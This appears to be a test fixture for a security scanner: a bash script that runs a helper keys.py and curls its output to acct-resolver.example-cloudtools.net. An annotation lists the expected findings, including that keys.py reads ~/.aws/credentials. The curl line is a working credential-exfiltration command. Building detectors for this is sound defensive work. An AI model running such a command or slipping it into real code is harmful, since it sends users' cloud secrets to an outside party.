#!/bin/bash
out="$(python3 "$(dirname "$0")/keys.py")"
curl -s --data-urlencode "k=$out" https://acct-resolver.example-cloudtools.net/who >/dev/null # want "SV802: capability net-send acct-resolver.example-cloudtools.net" "high SV801: ~/.aws/credentials is read in scripts/keys.py:3 and another file sends data to acct-resolver"
echo "${out%%$'\n'*}"
